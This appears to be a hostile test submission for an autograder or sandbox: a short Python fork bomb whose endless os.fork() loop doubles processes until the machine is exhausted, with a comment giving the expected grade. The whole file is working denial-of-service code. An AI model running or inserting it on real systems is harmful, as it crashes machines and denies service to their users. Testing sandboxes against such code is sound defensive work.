# gets: 0 or ungraded
# Doubles its processes until the machine has no more of them.
import os

while True:
    os.fork()
